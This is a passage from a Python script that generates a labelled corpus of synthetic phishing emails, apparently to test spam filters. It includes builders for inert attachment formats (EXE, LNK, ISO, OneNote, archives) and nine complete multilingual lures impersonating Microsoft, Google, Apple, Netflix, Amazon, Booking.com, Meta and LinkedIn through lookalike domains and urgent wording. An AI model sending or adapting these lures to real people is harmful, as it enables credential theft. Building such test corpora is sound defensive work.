    "b+OO69P1e3TmbLLQ++Gi+7MrpMb/AJ4IOO/qvDdlgP8ACcRMqxcv9UAx0t/i785xjHYd1PXzUdPaLVQ1wt8U7qoD7sOALMtz3wqJ"
    "p2wv1VUVzjWGn6BDwC3f8RPHcei2aX07PqJlUftKSm93c0ctLt2c/Meilqv2ePipZqn7Y65gjc/AiyeBnHxKO0zfJG0ElgfFJ1Lh"
    "IYxO55+73gNzjzx37rdSWuWxa/ttC6sfUgua8uOQDkHjGT6L6yFlERERERERERERfN66RkXtdhfI5rGBgyXHAH3RXXe9JWy83Weu"
    "fe44nS4ywFhAwAO+fkt+nNNW2w3L3yO8xTnYWbXFo7457/JR2kC1/tEvbmuDmuEpBByD94FNWTVYuV4r6KpjhpmUri1sjpPjw7Hm"
    "or2nQS1EVs6ET5PE/PTaXY+H0Vg0vpmPTsVQGVL5+vtJ3M24xn96rHtE68N+tlVDA+VtOzqOw0kcOzgkduyrtfdHav1JQtliFKJC"
    "2DwHdjLjzz9V9CpdO0tHp6osBuALqgk7iAH847Nz8lQpNMRx60jsIq37HgHrbRn4C7spLTdtbaPaWKFshlELHDeRjOY89vxU1e9C"
    "0lbcqm4T3R1OJ37iCwYB9Mkrq07pej03VOrftMSslj2DeGtbyQcg5+SpVvs1LfdRXWOorm0rGSve1/BDsvPqVN+zmMW6ruzKp3QY"
    "4Nax0vg34LuRnushv8Et1NbnfabLjxLI3/Q44/Rz/GPf0QVbtDtdTW5n2vFP96+UHAjI4x4cj5rUKuK/tOpppI6WotvwUgcCJdni"
    "HJ55Jx28lxW+51OoNcW25Oo3RMDmsOwFzRjPnj5r60DnKyiIiIiIiIiIiLCql80RR3y6SV09VURyPAaWsDcDAx5hR3/Zjbf9uq/y"
    "b+5P+zG2/wC3Vf5N/cpbTukaXT9c+qp6iaVz4zGWyYwBkHyHyUbVezq31VVNUPraoOme55ADcAkk+iukEYigZGCcNaG5+i2LRWU7"
    "aijnp3EtbMxzCR3AIwqjQez6goLhT1cdZUvfBIJGtdtwSDnnhS1XpunqtRwXl88onhAwwAbTjP4+aSabp5NTtvhmlFQwYEfG34dv"
    "1SLTdOzU776J5TO4YMfG34dv17Lo1BZob7bvc55HxM3h5LMZyM+v1XLcNL01ysVHapZ5WQ0u3a9oG52ARz+ahD7M7aP9eq/yb+5T"
    "d/0vTX2mo4Z55om0oIaWYycgDnI+SWDTFPYqeshp55ZG1QAcX44wCOMfVLNpins9srKGCeZ8dUCHOfjIy3HGFCD2ZW3H+HVf5N/c"
    "rPp+yw2O3Gigkklj3l+5+M849PopUDCyiIiIiIiIiIiIsIiIsosIiIiIiYREWURERERERERERERERERERERERERERERERERERERE"
    "RERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERE"
    "REWMoiImUyPVMomURMomUTKIiIiIiIiJlEREyiyi5LmyeShlZSuDZy07DnHKh4a0UcNQ0Q1Lapuz7qplLwdx2gg5PGe/0XVV1lbT"
    "RRsf0JKmQna2ONxyAPTP9q547tV1EbX08cLR7r7w4SZ75ILf1d11XOpm+wZamneI3mIPaSM4yuWae4RV79joZCyk6jgdwb8R7DJ5"
    "+axU3uVkpbTxNO2Fsrmlj3F+7kNG0cHjuV13eZ4paZsbzF7xMyNzxw5oPp6Hy/FRtzdJQNraaGeYxmjdMN0hc6NwOOCeec/qXXZJ"
    "C6tq42uqGxNYwiKocS8OOckZycdvxBXSyqqZqyobE2FsFO8MfuyXuOATj07hcX21Ux08dRPDEYZ4XyxtYTuGBnBz6jzXl9wqqKoq"
    "5asMd0qVjwyInaSXEdvy5Xda66aqkljmjaSwNIkbG9jXZ8vF5j+1cct9kgqjHLGzbE97Z3c+ED4D+K0yVlbI8GN7IZXSU+4HcW+I"
    "HIxlbjWVtNVV0hMb4YpYw4OJzyBnb6d8qTr6l9JEyUBpj6gEmfJp4z+BwuIXOqqHRMpmQh075DE6TOOm3AyceZP6linu8k8cjumx"
    "pZTGXuT4g5wI+nhW6nrKqprmxNbE2IQRyvJyXeLPAH9qxVVlWyufT07YMRwGYl+eecY4/auN1xquvUVVMGGJtJHMY5HHt4iQB6/N"
    "b6q6VEb6iSGOI09KGGQPzuduGfD6YBH1WY7jUmYucyL3f3r3cAZ3fI/n5LxR3maorWgRAwvldFhrH7m4yNxONuMhdlXVVJr20lII"
    "g7p9V7pc4AzgAAea5ZbtNFcWRBjZITK2FzmtPhcf948HnywtcFxuExp8RUwFS58bOXeHbnk+vA7frWJL1MWUzGsjZPIHlzi172ja"
    "dpADeeStsFzqp5SSyOCGOBs0nVadwznI/UtlsuM9VVPgmjDCIxKxwYW7gTjsStD62rp57pK9zJIIXNDI8EHJAxzntk88LtoamofV"
    "TUtU2PqRNa8Oizgh2fX6FaRcpXTim2M9467o3DyDAM7vyx+JXBHeZo4YY4mNLxB1Xb2vfuy4gNBGfQ8lbpb5LHM1hhaDvaX7sgti"
    "LQc/UOOFK22ofVUcdQ8BvUyWgfxc8fqwu1FrnhZUQuikBLHDBwcLkZaKNkczDG6QTAB5kcXEgdhkrH2RTFrGkzEszhxldu54IznO"
    "PkvUNrpYGbImFrel0QMnhuc4/WtzqSF1J7q5uYdmzafTGFrjttPGHYDyXR9IlzySW+mT9V4ktNLIWHD2ljQwFjy3LR2Bx3W+opIq"
    "mAwzDfG7uFxw2SnjFWx7nyx1IDXCRxLgMdt2c4XZ7pEKls4GJWs6Ydn9Hvg+q1ut1O6r95w9shxna8gOx2yM4K1x2aijc8tiPiaW"
    "YLiQ0HuAD2H0SO0UcfV8Dn9VgjfveXZaOw5W+looqQOERkO7vveXftK01Fnoql1QZYdxqA0S8nxbey9TWymm6m9rsybSSHEEFvYj"
    "0/BZNupzHKwtcRKWl+XElxGMfsCxcaaSqopaeNzGmVuxxeMgA9/xWH2qmkpoIHNcGwDEZY4tc3jHcLzJZ6OSJkZjLWNYYwGOLctP"
    "kcdwuiGjhgkL42kOLGsznPA7ftXFU2mKrrzPMSWGLp7WuLSeSTkjy+S6nW+ncJQW8SxiJwBx4RnA+Xda5bRSTStkkYS4AA4cQHY7"
    "ZHn+K2fZ9PtLdhwZet3Px5zleY7ZTxVBmjD2uLi7aHnbk9zt7LNVb4KuRkkocHsGA5ji049MjyWt1opHTiUsdubIJQN5xvHnjOMr"
    "bFb6eIw7GEdFznM5PBdnP7Stb7TSvjYza9uwuLXNeWuGTk8g55W1tBTs34YSHxiJ24k5aM8frK8UtspqWYyxB5kLAzc95cdo7DlJ"
    "LZTSyyyPaSZW7ZBuO1w7cjtn5r3SUEFHvMIdufjc57i4nHbkrAt9OK51Zs/uhzNhdny+i1Gz0ZZG1rHs6bdrSyRzTjOcEg8heprV"
    "RzvkfJFudJF0XHJ5Z6f+q6oomQxMijGGMaGtHoAtiIiIiIiIiIiIixgFZRFjAWURERERERERERERERERERERERERERERERERERER"
    "ERERERERERERERERERERERERERF//9k=")
QR_ATO = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAIQAAACEAQMAAABrihHkAAAABlBMVEUAAAD///+l2Z/dAAAAAnRSTlP//8i138cAAAAJcEhZcwAA"
    "CxIAAAsSAdLdfvwAAAD8SURBVEiJxZbRDQIxDEO9Qfbf0hsEO6Wng79zhSgC2ocUEscpoL8X/kwAVFXDT21jUt0FsovlbU4c2FFF"
    "JvwBAfXOPiYCVJFnROWVK2Tfan9OlvKzPnrxlHjRHzjw5Y3nRI/Zqonk+q6I+FVbWjcckBoLkJdyIaEtMNkpVx6QZUlObHZMYAs4"
    "7m0GE6IMXSx6j29I3Lp6D14zJ6pw3KQkd+0RQXm3ilzKZ2SuIlh/HeuAKDsfPC3FnIjZl3CS6Jx4SXRy/J2T0co9xL5pM7KOnltX"
    "3DmxlTxs3JXmhL5PJFqfEic4XTwg88too4/8MbHy1t7mJDsmv/sHkpAXcAfPpZw1d+YAAAAASUVORK5CYII=")


# ---- helpers ---------------------------------------------------------------

MORE_CT = {"shtml": ("text", "html"), "rtf": ("application", "rtf"), "one": ("application", "onenote"),
           "msi": ("application", "x-msi"), "exe": ("application", "x-msdownload"),
           "lnk": ("application", "x-ms-shortcut"), "vbs": ("text", "vbscript"), "hta": ("application", "hta"),
           "jpeg": ("image", "jpeg")}


def att(m, name, data, ct=None):
    ext = name.rsplit(".", 1)[-1].lower()
    mt, st = ct or MORE_CT.get(ext) or CT.get(ext, ("application", "octet-stream"))
    if mt == "text":
        if isinstance(data, bytes):
            data = data.decode()
        m.add_attachment(data, subtype=st, filename=name, cte="base64")
    else:
        if isinstance(data, str):
            data = data.encode()
        m.add_attachment(data, maintype=mt, subtype=st, filename=name)


def esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def both(m, text, html, cte="quoted-printable"):
    m.set_content(text, charset="utf-8", cte=cte)
    m.add_alternative(html, subtype="html", charset="utf-8", cte=cte)


def html_only(m, html, cte="base64"):
    m.set_content(html, subtype="html", charset="utf-8", cte=cte)


def text_only(m, text, cte="quoted-printable"):
    m.set_content(text, charset="utf-8", cte=cte)


def webmail_html(m, text):
    """Roundcube with the HTML editor on: text/plain plus its HTML"""
    roundcube(m, text)
    m.add_alternative('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head>'
                      "<body style='font-size: 10pt; font-family: Verdana,Geneva,sans-serif'>\n"
                      + "".join("<p>%s</p>\n" % esc(p).replace("\n", "<br />") for p in text.split("\n\n"))
                      + "</body></html>", subtype="html", charset="utf-8", cte="quoted-printable")


def phpmailer_html(m, html, version="6.8.1"):
    """a mailing script on PHPMailer, HTML only, base64"""
    dom = str(m["From"]).split("@")[-1].rstrip(">")
    del m["Message-ID"]
    m["Message-ID"] = "<%s@%s>" % (ralnum(43), dom)
    m["X-Mailer"] = "PHPMailer %s (https://github.com/PHPMailer/PHPMailer)" % version
    m.set_content(html, subtype="html", charset="utf-8", cte="base64")


def b64(s):
    return base64.b64encode(s.encode()).decode()


def button_mail(title, lines, link, label, color="#0067b8", logo_text="", footer=""):
    ps = "".join('<p style="margin:0 0 14px">%s</p>' % l for l in lines)
    return ('<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>'
            '<body style="margin:0;background:#f3f3f3"><table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px">'
            '<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Segoe UI,Helvetica,Arial,sans-serif;font-size:15px;color:#262626">'
            '<tr><td style="padding:24px 32px 0;font-size:20px;font-weight:600;color:%s">%s</td></tr>'
            '<tr><td style="padding:16px 32px 8px"><h2 style="font-weight:600;font-size:22px;margin:0 0 16px">%s</h2>%s'
            '<p style="margin:26px 0"><a href="%s" style="background:%s;color:#ffffff;padding:12px 26px;text-decoration:none;display:inline-block;font-weight:600">%s</a></p>'
            '</td></tr><tr><td style="padding:16px 32px 24px;font-size:12px;color:#737373">%s</td></tr>'
            '</table></td></tr></table></body></html>' % (color, logo_text, title, ps, link, color, label, footer))


# ---- attachment bodies (inert files with the shapes attackers use) ----------

def pdf_link_only(url):
    return ("%%PDF-1.7\n%%\xe2\xe3\xcf\xd3\n"
            "1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
            "2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
            "3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Annots[4 0 R]>>\nendobj\n"
            "4 0 obj\n<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/Border[0 0 0]/A<</S/URI/URI(%s)>>>>\nendobj\n"
            "trailer\n<</Root 1 0 R/Size 5>>\n%%%%EOF\n" % url).encode("latin-1")


def exe_bytes():
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00"
    stub += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 7
    stub = stub.ljust(0x80, b"\x00") + b"PE\x00\x00\x64\x86\x06\x00"
    return stub + bytes(random.getrandbits(8) for _ in range(6000))


def lnk_bytes(cmd):
    head = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", 0x000000E5)
    head = head.ljust(0x4C, b"\x00")
    args = cmd.encode("utf-16-le")
    return (head + b"\x14\x00\x1fP\xe0O\xd0 \xea:i\x10\xa2\xd8\x08\x00+00\x9d\x00\x00" +
            struct.pack("<H", len(cmd)) + args + b"\x00" * 8 +
            "%SystemRoot%\\System32\\imageres.dll".encode("utf-16-le"))


def ole_bytes(extra=b""):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + \
        bytes(random.getrandbits(8) for _ in range(3000)) + extra + bytes(random.getrandbits(8) for _ in range(3000))


def onenote_bytes(embedded_name, embedded, url):
    guid = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    file_guid = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    return (guid + bytes(random.getrandbits(8) for _ in range(1500)) +
            "Double click to view document".encode("utf-16-le") + bytes(600) +
            url.encode("utf-16-le") + bytes(300) + embedded_name.encode("utf-16-le") + bytes(64) +
            file_guid + struct.pack("<Q", len(embedded)) + embedded + bytes(random.getrandbits(8) for _ in range(1200)))


def iso_bytes(files, label="DOCUMENTS"):
    """a small ISO 9660 image (the .iso/.img lure), files named as on the disc"""
    S = 2048

    def b16(n):
        return struct.pack("<H", n) + struct.pack(">H", n)

    def b32(n):
        return struct.pack("<I", n) + struct.pack(">I", n)

    def rec(extent, size, name, flags=0):
        pad = b"\x00" if len(name) % 2 == 0 else b""
        ln = 33 + len(name) + len(pad)
        return (bytes([ln, 0]) + b32(extent) + b32(size) + bytes([126, 10, 28, 9, 14, 0, 4]) +
                bytes([flags, 0, 0]) + b16(1) + bytes([len(name)]) + name + pad)

    secs, s = [], 21
    for _, data in files:
        secs.append(s)
        s += max(1, (len(data) + S - 1) // S)
    end = s
    s = max(s + 2, 40)  # a volume a little larger than its files, as mastering tools write
    root = rec(20, S, b"\x00", 2) + rec(20, S, b"\x01", 2)
    for (name, data), sec in zip(files, secs):
        root += rec(sec, len(data), name.upper().encode() + b";1")
    pvd = bytearray(b" " * S)
    pvd[0:7] = b"\x01CD001\x01"
    pvd[7] = 0
    pvd[40:72] = label.encode().ljust(32)
    pvd[72:80] = bytes(8)
    pvd[80:88] = b32(s)
    pvd[88:120] = bytes(32)
    pvd[120:132] = b16(1) + b16(1) + b16(S)
    pt_l = bytes([1, 0]) + struct.pack("<I", 20) + struct.pack("<H", 1) + b"\x00\x00"
    pt_m = bytes([1, 0]) + struct.pack(">I", 20) + struct.pack(">H", 1) + b"\x00\x00"
    pvd[132:140] = b32(len(pt_l))
    pvd[140:144] = struct.pack("<I", 18)
    pvd[144:148] = bytes(4)
    pvd[148:152] = struct.pack(">I", 19)
    pvd[152:156] = bytes(4)
    pvd[156:190] = rec(20, S, b"\x00", 2)
    for off in (813, 830, 847, 864):
        pvd[off:off + 17] = b"2026112408142200\x00"
    pvd[881] = 1
    pvd[882:] = bytes(S - 882)
    term = (b"\xffCD001\x01").ljust(S, b"\x00")
    out = bytes(16 * S) + bytes(pvd) + term + pt_l.ljust(S, b"\x00") + pt_m.ljust(S, b"\x00") + root.ljust(S, b"\x00")
    for _, data in files:
        out += data.ljust(max(1, (len(data) + S - 1) // S) * S, b"\x00")
    return out + bytes((s - end) * S)


def _vint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _rar_block(body):
    size = _vint(len(body))
    return struct.pack("<I", zlib.crc32(size + body) & 0xffffffff) + size + body


def rar_bytes(files):
    """a RAR5 archive with the files stored (not compressed)"""
    out = b"Rar!\x1a\x07\x01\x00" + _rar_block(_vint(1) + _vint(0) + _vint(0))
    for name, data in files:
        n = name.encode()
        body = (_vint(2) + _vint(0x02) + _vint(len(data)) + _vint(0x04) + _vint(len(data)) + _vint(0x20) +
                struct.pack("<I", zlib.crc32(data) & 0xffffffff) + _vint(0) + _vint(0) + _vint(len(n)) + n)
        out += _rar_block(body) + data
    return out + _rar_block(_vint(5) + _vint(0) + _vint(0))


def sevenzip_bytes():
    """a 7z archive with encrypted headers: the names inside are not readable"""
    body = bytes(random.getrandbits(8) for _ in range(9000))
    nh = bytes(random.getrandbits(8) for _ in range(98))
    start = struct.pack("<QQI", len(body), len(nh), zlib.crc32(nh) & 0xffffffff)
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start) & 0xffffffff) + start + body + nh


FIRST = ["james", "maria", "peter", "anna", "thomas", "laura", "michael", "sofia", "daniel", "elena", "robert", "julia",
         "david", "sarah", "mark", "nina", "paul", "olga", "martin", "eva", "chris", "lucia", "frank", "hana"]
LAST = ["miller", "novak", "schmidt", "rossi", "garcia", "kowalski", "dubois", "jensen", "silva", "horvath",
        "brown", "weber", "costa", "larsen", "nagy", "fischer", "moreau", "bianchi", "king", "berg"]
DOMS = ["gmail.com", "yahoo.com", "outlook.com", "hotmail.com", "aol.com", "icloud.com", "gmx.de", "web.de",
        "comcast.net", "btinternet.com", "orange.fr", "libero.it", "seznam.cz", "wp.pl", "t-online.de"]


def addr_list(n):
    out = set()
    while len(out) < n:
        f, l = random.choice(FIRST), random.choice(LAST)
        out.add("%s%s%s@%s" % (f, random.choice([".", "_", ""]), l + (str(random.randint(1, 99)) if random.random() < .4 else ""),
                               random.choice(DOMS)))
    return sorted(out)


# ==== credential phishing ====================================================

# 01 IT "password expires" for Microsoft 365, the form on forms.office.com
link = ("https://forms.office.com/Pages/ResponsePage.aspx?id=DQSIkWdsW0yxEjajBLZtrQAAAAAAAAAAAAN__%s"
        "UMEhXRjNPQ0ZKWjBZVTRGMUlLNTBUWVc2Ty4u" % ralnum(10))
m = base('"IT Service Desk" <martin@autoservis-dolezal.cz>', "jiri.vesely@kovo-brno.cz",
         "Password Expiry Notice for jiri.vesely@kovo-brno.cz - Action Required Today", 3)
both(m, """Microsoft 365

Dear jiri.vesely,

The password for your Office 365 account jiri.vesely@kovo-brno.cz expires today 11/28/2026.

To keep using your current password and avoid losing access to Outlook, Teams and OneDrive, please validate your account before 23:59 today.

Keep Current Password: %s

If you do not validate, your account will be signed out of all devices and incoming emails will be held.

Microsoft 365 Admin Center
This is an automated message, do not reply.""" % link,
     button_mail("Your password expires today",
                 ["Dear jiri.vesely,",
                  "The password for your Office 365 account <b>jiri.vesely@kovo-brno.cz</b> expires today <b>11/28/2026</b>.",
                  "To keep using your current password and avoid losing access to Outlook, Teams and OneDrive, "
                  "please validate your account before 23:59 today."],
                 link, "Keep Current Password", logo_text="Microsoft 365",
                 footer="If you do not validate, your account will be signed out of all devices and incoming emails will be held.<br>"
                        "Microsoft 365 Admin Center &middot; This is an automated message, do not reply."))
save(m, "spam", "01_m365_password_expires_forms_office")

# 02 Google Workspace, Portuguese, a Google Form asks for the password
form = "https://docs.google.com/forms/d/e/1FAIpQLSf%s/viewform" % ralnum(48)
m = base('"Google Workspace" <geral@costaazul-imoveis.pt>', "contabilidade@algarve-contas.pt",
         "Aviso: a sua conta Google Workspace será desativada em 24 horas", 6)
roundcube(m, """Caro utilizador,

Detetámos que a sua conta de email não foi verificada após a recente atualização de segurança do Google Workspace.

Para evitar a desativação da sua caixa de correio e a perda de todas as mensagens, confirme os seus dados de acesso (email e palavra-passe) no formulário oficial de verificação:

%s

Este processo demora menos de 1 minuto. As contas não verificadas serão suspensas automaticamente em 24 horas.

Obrigado,
Equipa de Segurança do Google Workspace
© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043""" % form)
save(m, "spam", "02_google_workspace_verify_pt_google_forms")

# 03 the hosting provider's own webmail/cPanel login, brand in the subdomain
u = "https://vellumhost.net.webmail-quota.cfd/roundcube/?_task=login&_user=orit%40cohen-law.co.il"
m = base('"Vellumhost Webmail" <yoav@yoav-it.co.il>', "orit@cohen-law.co.il",
         "Mailbox quota exceeded (99%) - 14 incoming messages suspended", 9)
webmail_html(m, """Dear orit@cohen-law.co.il,

Your mailbox on Vellumhost has reached 99%% of its storage quota (4.95 GB / 5 GB). 14 incoming messages have been suspended and will be returned to the senders.

To release the pending messages and upgrade your quota free of charge, please log in to your webmail / cPanel account below:

%s

Failure to verify within 48 hours will result in the deactivation of your email account.

Regards,
Vellumhost Support Team
cPanel Hosting - Webmail - Domains""" % u)
save(m, "spam", "03_hosting_webmail_quota_brand_in_subdomain")

# 04 Apple ID locked, Korean, Cloudflare Workers
u = "https://appleid-unlock-case88314.soft-mountain-2c1e.workers.dev/ko-kr/?sid=" + rhex(16)
m = base('"Apple" <info@sorinamu-music.kr>', "hyejin.choi@naver.com", "[Apple] 회원님의 Apple ID가 보안상의 이유로 잠겼습니다", 14)
phpmailer_html(m, """<html><body style="font-family:-apple-system,'Apple SD Gothic Neo',sans-serif;background:#f5f5f7;padding:30px">
<div style="max-width:560px;margin:auto;background:#fff;padding:36px;border-radius:12px">
<p style="font-size:28px;margin:0 0 20px">&#63743;</p>
<h2>Apple ID가 잠겼습니다</h2>
<p>hyejin.choi@naver.com 님,</p>
<p>알 수 없는 기기에서 회원님의 Apple ID로 여러 번 로그인 시도가 있어 보안을 위해 계정이 일시적으로 잠겼습니다.</p>
<p>날짜: 2026년 11월 28일 03:14 (KST)<br>기기: Windows PC, 브라우저: Chrome<br>위치: 러시아 모스크바</p>
<p>본인이 아닌 경우 24시간 이내에 본인 인증을 완료하지 않으면 iCloud 데이터와 구입 내역이 영구적으로 삭제됩니다.</p>
<p style="text-align:center;margin:30px 0"><a href="%s" style="background:#0071e3;color:#fff;padding:12px 28px;border-radius:20px;text-decoration:none">지금 계정 잠금 해제</a></p>
<p style="font-size:12px;color:#86868b">Apple ID | 지원 | 개인정보 처리방침<br>Copyright © 2026 Apple Inc. 모든 권리 보유.</p>
</div></body></html>""" % u)
save(m, "spam", "04_apple_id_locked_ko_workers_dev")

# 05 Netflix payment, Spanish, through Google's redirect to a Firebase site
tgt = "https://netflix-es-pagos.web.app/cuenta/actualizar?id=" + rhex(12)
u = "https://www.google.com/url?q=%s&sa=D&source=editors&ust=%d&usg=AOvVaw%s" % (tgt, int(NOW * 1e6), ralnum(22))
m = base('"Netflix" <karin@andrumyoga.se>', "lucia.fernandez@hotmail.es",
         "Tu suscripción está en pausa: actualiza tu método de pago", 20)
both(m, """NETFLIX

Hola, Lucía:

No hemos podido procesar el pago de tu próxima factura. Tu suscripción está en pausa y dejarás de tener acceso a tus series y películas.

Para seguir disfrutando de Netflix sin interrupciones, actualiza tu información de pago en las próximas 48 horas:

Actualizar cuenta: %s

¿Necesitas ayuda? Visita el Centro de ayuda o llámanos.
El equipo de Netflix""" % u,
     button_mail("Tu suscripción está en pausa",
                 ["Hola, Lucía:", "No hemos podido procesar el pago de tu próxima factura. Tu suscripción está en pausa.",
                  "Para seguir disfrutando de Netflix sin interrupciones, actualiza tu información de pago en las próximas <b>48 horas</b>."],
                 u, "ACTUALIZAR CUENTA", color="#e50914", logo_text="NETFLIX",
                 footer="¿Preguntas? Llama al 900 000 000 &middot; Centro de ayuda<br>Netflix International B.V."))
save(m, "spam", "05_netflix_payment_es_google_redirect_web_app")

# 06 Amazon payment declined, German, Firebase hosting, PHPMailer HTML only
u = "https://amzn-de-konto-7f3a2.firebaseapp.com/ap/signin?openid.return_to=%2Fgp%2Fyour-account&ref=" + ralnum(12)
m = base('"Amazon.de" <info@stromrad.de>', "k.schulze@t-online.de",
         "Ihre Zahlung wurde abgelehnt - Prime-Mitgliedschaft wird beendet", 26)
phpmailer_html(m, """<html><body style="font-family:Arial,sans-serif;font-size:14px">
<div style="max-width:600px;margin:auto;border:1px solid #ddd;padding:24px">
<div style="font-size:26px;font-weight:bold">amazon<span style="color:#ff9900">.de</span></div>
<h3>Ihre Zahlungsmethode wurde abgelehnt</h3>
<p>Hallo,</p>
<p>leider konnten wir die Gebühr für Ihre Amazon Prime-Mitgliedschaft (89,90 €) nicht von Ihrer hinterlegten Karte abbuchen. Ihre Mitgliedschaft und alle offenen Bestellungen wurden vorübergehend ausgesetzt.</p>
<p>Bitte aktualisieren Sie Ihre Zahlungsinformationen innerhalb von 24 Stunden, um eine Kündigung zu vermeiden:</p>
<p><a href="%s" style="background:#ffd814;color:#0f1111;padding:10px 22px;border-radius:8px;text-decoration:none">Zahlungsmethode aktualisieren</a></p>
<p>Vielen Dank, dass Sie bei Amazon einkaufen.<br>Ihr Amazon-Kundenservice</p>
<p style="font-size:11px;color:#777">Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg</p></div></body></html>""" % u, version="5.2.22")
save(m, "spam", "06_amazon_payment_declined_de_firebaseapp")

# 07 Booking.com partner extranet, hyphenated brand domain
u = ("https://admin-booking-extranet.com/hotel/hoteladmin/extranet_ng/manage/messaging/inbox.html?hotel_id=2218734&lang=en&ses=%s"
     % rhex(32))
m = base('"Booking.com Partner Hub" <minh@maihien-cowork.vn>', "reservations@hotel-seeblick-lindau.de",
         "Guest complaint - reservation 4418290317 - response required within 24h", 31)
both(m, """Booking.com

Dear Partner,

A guest has submitted a serious complaint about their stay at your property (reservation 4418290317, check-in 21 November 2026). The guest reports that the room did not match the description and requests a full refund.

Per our Partner Terms, you must respond via the extranet within 24 hours. Otherwise the complaint will be decided in favour of the guest, the amount will be charged to your account and your property's ranking may be lowered.

View the message in the extranet:
%s

Kind regards,
Booking.com Partner Support
Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, Netherlands""" % u,
     button_mail("Guest complaint: response required",
                 ["Dear Partner,",
                  "A guest has submitted a serious complaint about their stay at your property (reservation <b>4418290317</b>, check-in 21 November 2026). "
                  "The guest reports that the room did not match the description and requests a full refund.",
                  "Per our Partner Terms, you must respond via the extranet <b>within 24 hours</b>. Otherwise the complaint will be decided in favour "
                  "of the guest and the amount will be charged to your account."],
                 u, "View message", color="#003580", logo_text="Booking.com",
                 footer="Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, Netherlands"))
save(m, "spam", "07_booking_extranet_guest_complaint_hyphenated")

# 08 Meta page "copyright violation", Netlify, display name and Reply-To changed
u = "https://meta-appeal-center-case1000482.netlify.app/?page_id=" + str(random.randint(10 ** 14, 10 ** 15))
m = base('"Meta for Business" <eleni@elenipapadaki.gr>', "hello@lunaflowers-studio.com",
         "Your Page has been scheduled for permanent deletion - Case #1000482931", 11,
         reply_to="meta.appeals.center@gmail.com")
both(m, """Meta Business Support

Dear Page Owner,

We have received several reports that your Page violates the intellectual property rights of a third party (copyright infringement, Community Standards section 4.2).

Your Page has been scheduled for permanent deletion. If you believe this is a mistake, you can submit an appeal within 24 hours. After this period the decision is final and your Page, its followers and ad account cannot be restored.

Submit an appeal: %s

Case number: #1000482931

Thank you,
Meta Business Support Team
Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025""" % u,
     button_mail("Your Page will be deleted",
                 ["Dear Page Owner,",
                  "We have received several reports that your Page violates the intellectual property rights of a third party.",
                  "Your Page has been <b>scheduled for permanent deletion</b>. If you believe this is a mistake, you can submit an appeal within 24 hours."],
                 u, "Submit appeal", color="#0866ff", logo_text="&#8734; Meta",
                 footer="Case number: #1000482931<br>Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025"))
save(m, "spam", "08_meta_page_deletion_copyright_netlify_reply_to")

# 09 LinkedIn messages, a lookalike domain (ln for in)
u = "https://www.linkedln-messaging.com/comm/messaging/thread/2-%s/?midToken=AQH%s" % (ralnum(36), ralnum(14))
m = base('"LinkedIn" <s.okafor@northbridge-translations.co.uk>', "m.haas@kanzlei-haas-partner.de",
         "You have 3 new messages from recruiters", 40)
both(m, """LinkedIn

You have 3 new messages

Sophie Laurent, Talent Acquisition Lead at Airbus: "Hello, I came across your profile and I'd like to discuss a senior position..."
Daniel Brooks, Partner at Heidrick & Struggles
Aisha Rahman, HR Manager at Siemens Healthineers

View messages: %s

You are receiving notification emails from LinkedIn. Unsubscribe
LinkedIn Ireland Unlimited Company, Wilton Plaza, Wilton Place, Dublin 2.""" % u,
     button_mail("You have 3 new messages",
                 ["<b>Sophie Laurent</b>, Talent Acquisition Lead at Airbus<br>\"Hello, I came across your profile and I'd like to discuss a senior position...\"",
                  "<b>Daniel Brooks</b>, Partner at Heidrick &amp; Struggles",
                  "<b>Aisha Rahman</b>, HR Manager at Siemens Healthineers"],
                 u, "View messages", color="#0a66c2", logo_text="LinkedIn",
                 footer="LinkedIn Ireland Unlimited Company, Wilton Plaza, Wilton Place, Dublin 2."))
save(m, "spam", "09_linkedin_new_messages_lookalike_domain")

# 10 DocuSign, a QR code in an attached JPEG, no link in the text
m = base('"DocuSign via Costa Azul Imóveis" <ines.carvalho@costaazul-imoveis.pt>', "paula.mendes@sapataria-alves.pt",
         "Complete with DocuSign: Contrato_Arrendamento_2027.pdf", 16)
both(m, """DocuSign

Inês Carvalho sent you a document to review and sign.

Contrato_Arrendamento_2027.pdf

For security reasons this document can only be opened on a mobile device. Scan the QR code in the attached image with your phone camera to review and sign.

The document expires in 48 hours.

Do Not Share This Email
This email contains a secure code. Please do not share this email, link, or access code with others.""",
     '<html><body style="font-family:Helvetica,Arial,sans-serif;background:#eaeaea;padding:20px">'
     '<div style="max-width:560px;margin:auto;background:#fff"><div style="background:#1e4ca1;color:#fff;padding:30px;text-align:center">'
